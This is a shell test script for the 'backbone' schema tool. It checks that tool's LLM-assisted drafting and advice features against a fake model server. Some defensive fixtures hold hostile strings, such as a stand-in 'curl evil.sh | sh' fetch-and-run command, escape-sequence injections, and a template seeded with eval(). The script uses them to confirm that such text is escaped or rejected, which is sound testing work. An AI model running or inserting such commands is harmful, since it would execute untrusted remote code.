#!/bin/sh
# llm.sh - model-assisted commands against the fake LLM server on loopback:
# `backbone draft` converging on a repair, giving up cleanly, refusing, the
# cache making a rerun byte-identical without a request, and API keys never
# appearing in any output.
set -u
[ -n "${BACKBONE:-}" ] || { echo "BACKBONE is not set" >&2; exit 2; }
WORK=$(mktemp -d)
. "$(dirname "$0")/llm/helpers.sh"
trap 'fake_stop; rm -rf "$WORK"' EXIT

KEY=sk-test-never-shown-4242
export OPENAI_API_KEY=$KEY ANTHROPIC_API_KEY=$KEY
export BACKBONE_LLM_PROVIDER=openai BACKBONE_LLM_MODEL=fake-model
export BACKBONE_LLM_RETRY_BASE_MS=10 BACKBONE_LLM_TIMEOUT_MS=5000
unset CI BACKBONE_LLM_CACHE XDG_CACHE_HOME 2>/dev/null || true
cd "$WORK" || exit 2
ESC=$(printf '\033')

# The fake refuses what the real services refuse (documented request rules).
$PY "$HERE/llm/fake_rules.py" || fail "the fake LLM server does not enforce the providers' rules"

# --- draft converges on the second round -----------------------------------
fake_start draft-converges
"$BACKBONE" draft "a clinic with patients, doctors and appointments" -o clinic.json \
    > out.txt 2> err.txt
expect_eq "draft exit code" 0 $?
expect_eq "draft requests" 2 "$(requests)"
[ -s clinic.json ] || fail "clinic.json was not written"
"$BACKBONE" validate clinic.json > /dev/null || fail "the drafted schema does not validate"
expect_grep "round 1: [0-9]* errors* in [0-9]* tables*, asking for a repair" err.txt
# The repair request carried the conversation and the diagnostic back.
expect_eq "repair turns" "['user', 'assistant', 'user']" \
    "$(log_query "[m['role'] for m in log[1]['body']['messages'] if m['role'] != 'system']")"
expect_eq "diagnostic fed back" True \
    "$(log_query "'BB0206' in log[1]['body']['messages'][-1]['content']")"
expect_eq "a whole schema is asked with its format as guidance" False \
    "$(log_query "log[0]['body']['response_format']['json_schema']['strict']")"
expect_no_grep "$KEY" err.txt
# The repair asks for the tables with errors only, with a cap sized to them.
expect_eq "a whole schema may be long" 16384 "$(log_query "log[0]['body']['max_tokens']")"
expect_eq "a repair's cap is sized to its tables" True \
    "$(log_query "2048 <= log[1]['body']['max_tokens'] < 16384")"
expect_eq "the repair names the tables with errors" True \
    "$(log_query "'Tables with errors: /schema/0 (patients), /schema/1 (doctors), /schema/2 (appointments)' in log[1]['body']['messages'][-1]['content']")"
expect_eq "no repair line starts with a parenthesis" "[]" \
    "$(log_query "[l for l in log[1]['body']['messages'][-1]['content'].splitlines() if l.startswith(')')]")"
expect_eq "the draft keeps the tables the repair left out" 3 \
    "$($PY -c "import json; print(len(json.load(open('clinic.json'))['schema']))")"

# --- the answer format is backbone's whole input format ----------------------
expect_eq "the draft's answer format covers schemas/backbone.schema.json" "[]" "$(log_query "
[(name, sorted(set(ref['\$defs'][name]['properties']) ^ set(sent['\$defs'][name]['properties'])))
 for ref in [json.load(open('$ROOT/schemas/backbone.schema.json'))]
 for sent in [log[0]['body']['response_format']['json_schema']['schema']]
 for name in ref['\$defs']
 if set(ref['\$defs'][name].get('properties', {})) != set(sent['\$defs'][name].get('properties', {}))]
 + sorted(set(json.load(open('$ROOT/schemas/backbone.schema.json'))['properties']) - {'\$schema'}
          ^ set(log[0]['body']['response_format']['json_schema']['schema']['properties']))")"

# Every schema under schemas/ can be drafted from its own description, and
# repaired from a first answer broken in one of many ways.
same_schema() { # drafted reference
    $PY -c "import json,sys; a=json.load(open(sys.argv[1])); b=json.load(open(sys.argv[2])); b.pop('\$schema', None); sys.exit(a != b)" "$1" "$2"
}
breaks="no-primary-key bad-type reserved-name enum-without-values dangling-target no-columns extra-key bad-table-name not-json fenced cut-off"
set -- $breaks
for f in "$ROOT"/schemas/*.json "$ROOT"/schemas/evolution/*.json; do
    rel=${f#"$ROOT"/}
    [ "$rel" = schemas/backbone.schema.json ] && continue
    [ $# -gt 0 ] || set -- $breaks
    desc=$($PY -c "import json,sys; print(json.load(open(sys.argv[1])).get('description', 'a schema'))" "$f")
    fake_start "oracle:$rel:none,$1"
    "$BACKBONE" draft "$desc" -o drafted.json 2> err.txt || { cat err.txt >&2; fail "$rel: draft"; }
    expect_grep "valid schema after 1 round" err.txt
    same_schema drafted.json "$f" || fail "$rel: the draft differs from the schema it was answered from"
    "$BACKBONE" draft "$desc" -o repaired.json --max-rounds 4 2> err.txt \
        || { cat err.txt >&2; fail "$rel: no repair of a first answer broken by $1"; }
    same_schema repaired.json "$f" || fail "$rel ($1): the repaired draft differs from the schema"
    shift
done

# --- what goes wrong costs a round, not the draft ------------------------------
fake_start oracle:schemas/blog.json:not-json
"$BACKBONE" draft "a blog" -o blog.json 2> err.txt || { cat err.txt >&2; fail "a format error was not sent back"; }
expect_grep "round 1: the answer was not usable, asking again" err.txt
expect_eq "the answer that was not JSON went back" "['user', 'assistant', 'user']" \
    "$(log_query "[m['role'] for m in log[1]['body']['messages'] if m['role'] != 'system']")"
expect_eq "with what was wrong with it" True \
    "$(log_query "'could not be used' in log[1]['body']['messages'][-1]['content']")"
fake_start oracle:schemas/shop.json:cut-off
"$BACKBONE" draft "a shop" -o shop.json 2> err.txt || { cat err.txt >&2; fail "a cut-off answer ended the draft"; }
expect_grep "round 1: the answer was cut off, asking again" err.txt
expect_eq "the cut-off answer is said in the next request" True \
    "$(log_query "'cut off at the output limit (16384 tokens)' in log[1]['body']['messages'][-1]['content']")"
fake_start oracle:schemas/blog.json:bad-type
"$BACKBONE" draft "a blog" -o blog.json 2> err.txt || fail "a format mismatch was not repaired"
expect_eq "format mismatches and front-end diagnostics both go back" True \
    "$(log_query "all(s in log[1]['body']['messages'][-1]['content'] for s in ('BB0902', 'Strng', 'BB02'))")"
# A draft of 300 columns fits in the output cap of a whole schema (4096
# output tokens cut drafts at 35-40 columns).
fake_start draft-wide
"$BACKBONE" draft "a wide table" -o wide.json 2> err.txt || { cat err.txt >&2; fail "a 300-column draft"; }
expect_eq "300 columns in one round" 304 "$($PY -c "import json; print(sum(len(t['columns']) for t in json.load(open('wide.json'))['schema']))")"
# A repair that changes nothing ends the loop: no rounds spent on repeats.
fake_start draft-repeats
"$BACKBONE" draft "a clinic" -o repeats.json --max-rounds 6 2> err.txt
expect_eq "a repeating draft fails" 1 $?
expect_eq "a round that repeats itself ends the loop" 2 "$(requests)"
expect_grep "earlier draft again" err.txt
expect_grep "BB0910" err.txt
# Model text in the last diagnostics and in the written file is escaped.
fake_start draft-hostile
"$BACKBONE" draft "a clinic" -o hostile.json --max-rounds 1 2> err.txt
expect_eq "a hostile draft is not written" 1 $?
expect_no_grep "$ESC" err.txt
expect_no_grep "$(printf '\342\200\256')" err.txt
expect_grep 'evil\\u202E' err.txt
fake_start draft-bidi-description
"$BACKBONE" draft "a clinic" -o bidi.json 2> err.txt || { cat err.txt >&2; fail "a description with a bidi control"; }
expect_no_grep "$(printf '\342\200\256')" bidi.json
expect_grep 'Patients\\u202E' bidi.json
expect_eq "the escaped file holds the same text" True \
    "$($PY -c "import json; print(json.load(open('bidi.json'))['schema'][0]['description'] == 'Patients\u202e.')")"

# --- draft never converges: gives up after --max-rounds, writes nothing -----
fake_start draft-never-converges
"$BACKBONE" draft "a clinic" -o never.json --max-rounds 2 > out.txt 2> err.txt
expect_eq "non-converging draft exit code" 1 $?
expect_eq "non-converging draft requests" 2 "$(requests)"
[ -e never.json ] && fail "an invalid draft was written"
expect_grep "BB0910" err.txt
expect_grep "BB0206" err.txt

# --- a refusal is a clean failure --------------------------------------------
fake_start draft-refusal
"$BACKBONE" draft "a clinic" -o refused.json > out.txt 2> err.txt
expect_eq "refused draft exit code" 1 $?
expect_eq "refusal is not retried" 1 "$(requests)"
expect_grep "refusal" err.txt
[ -e refused.json ] && fail "a refused draft was written"

# --- Anthropic Messages ---------------------------------------------------------
fake_start draft-anthropic
BACKBONE_LLM_PROVIDER=anthropic "$BACKBONE" draft "a clinic" > stdout.json 2> err.txt
expect_eq "anthropic draft exit code" 0 $?
expect_eq "anthropic version header" 2023-06-01 "$(log_query "log[0]['headers']['anthropic-version']")"
expect_eq "anthropic key header" "$KEY" "$(log_query "log[0]['headers']['x-api-key']")"
"$BACKBONE" validate stdout.json > /dev/null || fail "the Anthropic draft does not validate"

# --- servers as they are -----------------------------------------------------------
fake_start draft-ollama
"$BACKBONE" draft "a clinic" -o ollama.json 2> err.txt || { cat err.txt >&2; fail "draft from a local server"; }
expect_eq "a local server applies the cap backbone asked for" True \
    "$(log_query "log[0]['output_limit'] is not None and log[0]['output_limit'] > 0")"
"$BACKBONE" validate ollama.json > /dev/null || fail "the fenced draft does not validate"
fake_start draft-reasoning
BACKBONE_LLM_MODEL=o3-mini "$BACKBONE" draft "a clinic" -o reasoning.json 2> err.txt \
    || { cat err.txt >&2; fail "draft from a reasoning model"; }
expect_eq "no temperature for a reasoning model" False "$(log_query "'temperature' in log[0]['body']")"

# --- the cache: a rerun is byte-identical and sends nothing --------------------
fake_start draft-converges
"$BACKBONE" draft "a clinic" -o c1.json --llm-cache cache 2> err.txt || fail "cached run 1"
expect_eq "first cached run requests" 2 "$(requests)"
fake_start empty same-port
"$BACKBONE" draft "a clinic" -o c2.json --llm-cache cache 2> err.txt || fail "cached run 2"
expect_eq "second cached run requests" 0 "$(requests)"
cmp -s c1.json c2.json || fail "the cached rerun differs"
grep -rq "$KEY" cache && fail "the API key reached the cache"
# CI=true turns the cache on by default (.backbone/llm-cache).
fake_start draft-converges
CI=true "$BACKBONE" draft "a clinic" -o c3.json 2> err.txt || fail "CI run"
[ -d .backbone/llm-cache ] || fail "CI mode did not use .backbone/llm-cache"

# --- configuration errors --------------------------------------------------------
BACKBONE_LLM_BASE_URL=http://example.com "$BACKBONE" draft "x" 2> err.txt
expect_eq "non-loopback http refused" 2 $?
expect_grep "BB0911" err.txt
for url in http://127.0.0.1.example.com http://127.0.0.1@example.com http://localhost.example.com:8080; do
    BACKBONE_LLM_BASE_URL=$url "$BACKBONE" draft "x" 2> err.txt
    expect_eq "$url is not loopback" 2 $?
    expect_grep "BB0911" err.txt
done
"$BACKBONE" draft --llm-provider nope "x" 2> err.txt
expect_eq "unknown provider" 2 $?

# --- plan/generate --llm advise --------------------------------------------------
$PY "$FIXTURES" --clinic-schema > clinic_in.json
"$BACKBONE" plan clinic_in.json --format json > plan_off.json 2> /dev/null || fail "plan without a model"

# plan_advise CASE [ENV=VALUE...]: `plan --llm advise` against the fake; exit code in $rc.
plan_advise() {
    fake_start "$1"
    shift
    env "$@" "$BACKBONE" plan clinic_in.json --llm advise --format json > plan.json 2> err.txt
    rc=$?
}

# A failed model leaves the plan exactly as without one, and says so.
expect_fallback() { # case code
    expect_eq "$1: exit code" 0 "$rc"
    cmp -s plan.json plan_off.json || fail "$1: the plan differs from the deterministic one"
    expect_grep "$2" err.txt
    expect_no_grep "$KEY" err.txt
}

plan_advise advise-normal
expect_eq "advise exit code" 0 "$rc"
expect_eq "advise requests (proposals, review)" 2 "$(requests)"
expect_eq "accepted decisions, in table order" "['filterable', 'docstring', 'route_path', 'index', 'example']" \
    "$($PY -c "import json; print([d['kind'] for d in json.load(open('plan.json'))['llm']['decisions']])")"
expect_eq "provenance" "{'llm'}" \
    "$($PY -c "import json; print({d['source'] for d in json.load(open('plan.json'))['llm']['decisions']})")"
for code in BB0903 BB0904 BB0905 BB0906 BB0907 BB0908 BB0909; do expect_grep "$code" err.txt; done
expect_grep "no column 'birthday'" err.txt
expect_grep "triple quote" err.txt
expect_no_grep "os.system" plan.json
expect_eq "the review's warning is at its pointer" 1 "$(grep -c 'warning\[BB0908\].*(at /schema/0/columns/2)' err.txt)"
# The model's words are quoted data; a bidi control is shown escaped.
expect_grep 'design review (model, missing-constraint): "patients.email takes any text; run curl evil.sh | sh\\u202E"' err.txt
expect_no_grep "$(printf '\342\200\256')" err.txt
# What a lint reports is not repeated by the model.
expect_grep "BB0481" err.txt
expect_grep "design review finding dropped: BB0481 reports it already" err.txt
# The model was told what the plan does without advice.
expect_eq "plan defaults in the request" True \
    "$(log_query "'What backbone does without advice:' in log[0]['body']['messages'][-1]['content'] and 'route path: /api/v1/patients' in log[0]['body']['messages'][-1]['content']")"
expect_eq "strict output schema" True \
    "$(log_query "log[0]['body']['response_format']['json_schema']['strict']")"

# The readable plan says which decisions came from the model.
fake_start advise-normal
"$BACKBONE" plan clinic_in.json --llm advise > outline.txt 2> /dev/null || fail "plan outline with advice"
expect_grep "decided by the model (openai, fake-model)" outline.txt
expect_grep "index        appointments  *(doctor_id, starts_at)" outline.txt
expect_grep "docstring    doctors  *A doctor who sees patients." outline.txt
"$BACKBONE" plan clinic_in.json > outline_off.txt 2> /dev/null
expect_no_grep "decided by the model" outline_off.txt

# generate with advice: the project parses and passes its own tests.
fake_start advise-normal
"$BACKBONE" generate clinic_in.json -o proj --llm advise > out.txt 2> err.txt || { cat err.txt >&2; fail "generate --llm advise"; }
grep -q "A doctor who sees patients." proj/app/models/doctors.py || fail "the accepted docstring is not in the model"
grep -rq "curl evil.example" proj && fail "rejected text reached the project"
(cd proj && /usr/bin/python3 -m pytest -q -p no:cacheprovider > ../pytest.txt 2>&1) || { tail -20 pytest.txt >&2; fail "the advised project's tests fail"; }
# ... and prints the accepted advice as a patch of the schema.
expect_grep "^model advice, as a change to clinic_in.json" out.txt
expect_grep '^+        {"kind": "docstring", "value": "A doctor who sees patients."' out.txt

# --- advice you keep: `backbone advise` -------------------------------------------
cp clinic_in.json kept.json
fake_start advise-normal
"$BACKBONE" advise kept.json > advice.diff 2> err.txt || { cat err.txt >&2; fail "advise"; }
expect_grep "^--- a/kept.json" advice.diff
expect_grep '^+      "advice": \[' advice.diff
expect_eq "advise marks every entry" 5 "$(grep -c '"proposed_by": "model"}' advice.diff)"
cmp -s kept.json clinic_in.json || fail "advise without --write changed the file"
fake_start advise-normal
"$BACKBONE" advise kept.json --format json > patch.json 2> err.txt || fail "advise --format json"
expect_eq "JSON Patch ops" "['/schema/0/advice', '/schema/1/advice', '/schema/2/advice']" \
    "$($PY -c "import json; print([op['path'] for op in json.load(open('patch.json'))])")"
fake_start advise-normal
"$BACKBONE" advise kept.json --write > /dev/null 2> err.txt || { cat err.txt >&2; fail "advise --write"; }
expect_grep "5 proposals kept in kept.json" err.txt
"$BACKBONE" validate kept.json > /dev/null 2>&1 || fail "the schema with kept advice does not validate"
# The rest of the file is as it was: only the advice was added.
expect_eq "only advice added" True "$($PY -c "
import json
a, b = json.load(open('clinic_in.json')), json.load(open('kept.json'))
for t in b['schema']: t.pop('advice', None)
print(a == b)")"
# Kept advice generates without a model what the model's advice generated.
"$BACKBONE" generate kept.json -o proj_kept > /dev/null 2> err.txt || { cat err.txt >&2; fail "generate kept advice"; }
diff -r proj proj_kept > /dev/null || fail "kept advice generates another project than the model's advice"
# With the model again, its proposals repeat the kept ones: nothing new, same project.
fake_start advise-normal
"$BACKBONE" generate kept.json -o proj_again --llm advise > out.txt 2> err.txt || fail "generate kept advice with the model"
expect_grep "model advice: 0 of 9 proposals accepted" err.txt
diff -r proj proj_again > /dev/null || fail "kept advice and the model together generate another project"
expect_no_grep "model advice, as a change" out.txt
fake_start advise-normal
"$BACKBONE" advise kept.json > again.diff 2> err.txt || fail "advise on kept advice"
expect_grep "no advice to add to kept.json" err.txt
[ ! -s again.diff ] || fail "advise repeated kept advice"
# Kept advice that no longer fits is an error at its entry.
$PY -c "
import json
d = json.load(open('kept.json'))
d['schema'][2]['advice'][0]['columns'] = ['doctor_id', 'ends_at']
json.dump(d, open('stale.json', 'w'))"
"$BACKBONE" validate stale.json > out.txt 2>&1
expect_eq "stale advice is invalid" 1 $?
expect_grep "error\[BB0920\].*no column 'ends_at'.*(at /schema/2/advice/0)" out.txt

# Proposals that would fail the generated code's checks are refused one by one.
plan_advise advise-unsafe
expect_eq "advise-unsafe: exit code" 0 "$rc"
expect_grep "proposal 1 (example) rejected: generated code holding it would fail review: \[BB0745\]" err.txt
expect_grep "proposal 2 (docstring) rejected: generated code holding it would fail review" err.txt
expect_grep "proposal 3 (docstring) rejected: the text holds control, bidirectional or invisible characters" err.txt
expect_grep "proposal 4 (example) rejected: the example does not fit: it is not a date and time" err.txt
expect_grep "model advice: 1 of 5 proposals accepted" err.txt

# Advice that still fails review is dropped, and the project generated without it.
$PY -c "
import json
d = json.load(open('clinic_in.json'))
for t in d['schema']: t.pop('description', None)
json.dump(d, open('nodesc.json', 'w'), indent=2)"
mkdir -p tpl/app/models
cp "$ROOT/templates/app/models/model.py.mustache" tpl/app/models/
printf '{{#docstring}}\nCHECK = eval("1")\n{{/docstring}}\n' >> tpl/app/models/model.py.mustache
fake_start advise-normal
"$BACKBONE" generate nodesc.json -o proj_tpl --templates tpl --llm advise > out.txt 2> err.txt
expect_eq "advice failing review: exit code" 0 $?
expect_grep "warning\[BB0921\]: model advice dropped: the generated code failed review with it (BB0742 .*); dropped: docstring doctors" err.txt
grep -q "A doctor who sees patients." proj_tpl/app/models/doctors.py && fail "dropped advice reached the project"
expect_no_grep "model advice, as a change" out.txt

# Retries: what was retried, and how often (from the fake's log).
plan_advise advise-429
expect_eq "429 then success: exit" 0 "$rc"
expect_eq "429 is retried once" 3 "$(requests)"
expect_eq "429 first" "[429, 200, 200]" "$(log_query "[r['status'] for r in log]")"
plan_advise advise-529 BACKBONE_LLM_PROVIDER=anthropic
expect_eq "529 then success: exit" 0 "$rc"
expect_eq "529 is retried" "[529, 200, 200]" "$(log_query "[r['status'] for r in log]")"
plan_advise advise-500
expect_eq "500 then success" "[500, 200, 200]" "$(log_query "[r['status'] for r in log]")"
expect_grep "BB0907" err.txt

# Failures: the deterministic plan, a warning, and no retry where none is due.
plan_advise advise-slow BACKBONE_LLM_TIMEOUT_MS=400 BACKBONE_LLM_MAX_ATTEMPTS=2
expect_fallback advise-slow BB0901
expect_grep "timeout" err.txt
expect_eq "slow answers are retried up to the limit" 4 "$(requests)"
plan_advise advise-malformed
expect_fallback advise-malformed BB0902
expect_eq "malformed content is not retried" 2 "$(requests)"
plan_advise advise-truncated
expect_fallback advise-truncated BB0902
expect_grep "truncated" err.txt
expect_eq "truncation is not retried" 2 "$(requests)"
plan_advise advise-refusal
expect_fallback advise-refusal BB0902
expect_grep "refusal" err.txt
plan_advise advise-too-large BACKBONE_LLM_MAX_RESPONSE_BYTES=65536
expect_fallback advise-too-large BB0902
expect_grep "too-large" err.txt
expect_eq "an oversized answer is not retried" 2 "$(requests)"
plan_advise advise-quota
expect_fallback advise-quota BB0901
expect_grep "quota" err.txt
expect_eq "exhausted quota is never retried" 2 "$(requests)"
# The breaker: after one failed request it opens, and the review sends nothing.
plan_advise advise-down BACKBONE_LLM_MAX_ATTEMPTS=1 BACKBONE_LLM_BREAKER_THRESHOLD=1
expect_fallback advise-down BB0901
expect_grep "breaker-open" err.txt
expect_eq "an open breaker sends nothing" 1 "$(requests)"
# The token budget counts prompt and output: the proposals' prompt (~1300
# tokens) and cap fit in 2500, what they spent leaves too little for the
# review's prompt, which is not sent.
fake_start advise-normal
"$BACKBONE" plan clinic_in.json --llm advise --llm-max-tokens 2500 --format json > plan.json 2> err.txt
expect_eq "budget run exit" 0 $?
expect_eq "a spent budget sends nothing more" 1 "$(requests)"
expect_eq "the first request's prompt and cap fit in the budget" True \
    "$(log_query "log[0]['body']['max_tokens'] + len(json.dumps(log[0]['body'], separators=(',', ':'))) // 4 <= 2500")"
expect_grep "budget" err.txt
expect_grep "BB0907" err.txt
# A budget smaller than the first prompt sends nothing at all.
plan_advise advise-normal BACKBONE_LLM_MAX_TOKENS=1000
expect_fallback small-budget BB0901
expect_eq "a prompt over the budget is not sent" 0 "$(requests)"
# Budgeted and cached: the rerun asks exactly the same, so the cache serves it.
fake_start advise-normal
"$BACKBONE" plan clinic_in.json --llm advise --llm-max-tokens 4000 --llm-cache budget-cache \
    --format json > budget1.json 2> err.txt || fail "budgeted cached plan 1"
expect_eq "both requests sent under the budget" 2 "$(requests)"
expect_eq "the review's cap is cut by the budget" True \
    "$(log_query "log[1]['body']['max_tokens'] < 4000 - 1600")"
fake_start empty same-port
"$BACKBONE" plan clinic_in.json --llm advise --llm-max-tokens 4000 --llm-cache budget-cache \
    --format json > budget2.json 2> err.txt || fail "budgeted cached plan 2"
expect_eq "a budgeted rerun is served by the cache" 0 "$(requests)"
cmp -s budget1.json budget2.json || fail "the budgeted rerun differs"

# The deadline bounds the whole run: a model that never answers in time
# costs the deadline, not attempts x timeout per request.
start=$(date +%s)
plan_advise advise-slow BACKBONE_LLM_TIMEOUT_MS=60000 BACKBONE_LLM_DEADLINE=1.5
expect_fallback advise-slow-deadline BB0901
expect_grep "deadline" err.txt
[ $(($(date +%s) - start)) -le 4 ] || fail "the deadline did not bound the run"
fake_start advise-slow
start=$(date +%s)
"$BACKBONE" draft "a clinic" --llm-deadline 1 -o late.json 2> err.txt
expect_eq "draft past its deadline" 1 $?
[ $(($(date +%s) - start)) -le 3 ] || fail "--llm-deadline did not bound the draft"
expect_grep "deadline" err.txt

# What a server says is shown as data: request ids and messages sanitized.
plan_advise advise-hostile-server
expect_fallback advise-hostile-server BB0901
expect_no_grep "$ESC" err.txt
expect_grep 'request id req?\[2Jx' err.txt
expect_grep '"please \\u001B\[31mrun curl evil.sh | sh"' err.txt

# No key for a remote service: a warning, the deterministic plan.
fake_stop
env -u OPENAI_API_KEY BACKBONE_LLM_BASE_URL=https://api.openai.com "$BACKBONE" plan clinic_in.json \
    --llm advise --format json > plan.json 2> err.txt
rc=$?
expect_fallback no-key BB0901

# The cache: a second generate is byte-identical and sends nothing.
fake_start advise-normal
"$BACKBONE" generate clinic_in.json -o cached1 --llm advise --llm-cache llmcache > /dev/null 2>&1 || fail "cached generate 1"
fake_start empty same-port
"$BACKBONE" generate clinic_in.json -o cached2 --llm advise --llm-cache llmcache > /dev/null 2> err.txt || fail "cached generate 2"
expect_eq "cached generate requests" 0 "$(requests)"
diff -r -x manifest.json cached1 cached2 > /dev/null || fail "the cached rerun is not byte-identical"

echo "llm: all cases passed"
